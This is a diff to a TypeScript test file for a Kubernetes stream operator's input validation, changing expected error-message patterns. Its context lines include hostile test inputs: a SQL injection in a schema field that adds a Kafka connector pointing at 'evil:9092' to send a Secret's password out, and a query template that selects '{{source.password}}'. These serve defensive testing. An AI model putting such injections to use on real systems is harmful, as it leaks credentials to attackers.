@@ -51,7 +51,7 @@ function store(more: Json): KubernetesObject {
 
 const GRAMMAR = 'grammar of the schema';
 const OPTIONS = 'the operator: a list of the options that a spec may give';
-const BAD_OPTION = /config\.options: must have options that a spec may give for/;
+const BAD_OPTION = /config\.options must have options that a spec may give for/;
 const BAD_URL = /must be a URL without credentials/;
 
 type Row = readonly [request: string, gain: string, defence: string, object: KubernetesObject, message: RegExp];
@@ -291,7 +291,7 @@ const NOT_ACCEPTED: readonly Row[] = [
     "the password of the Secret, at the attacker's brokers",
     'the operator: columns and nothing else',
     stream({ schema: "id BIGINT) WITH ('connector' = 'kafka', 'properties.bootstrap.servers' = 'evil:9092') --" }),
-    /source\.config\.options\.schema: must be columns and nothing else/,
+    /source\.config\.options\.schema must be columns and nothing else/,
   ],
   [
     'a stream whose query selects the password',
@@ -301,7 +301,7 @@ const NOT_ACCEPTED: readonly Row[] = [
       {},
       { transformations: [{ type: 'sql', config: { query: "SELECT '{{source.password}}' AS p FROM input" } }] },
     ),
-    /transformations\[0\]\.config\.query: must have no '\{\{'/,
+    /transformations\[0\]\.config\.query must have no '\{\{'/,
   ],
 ];
 
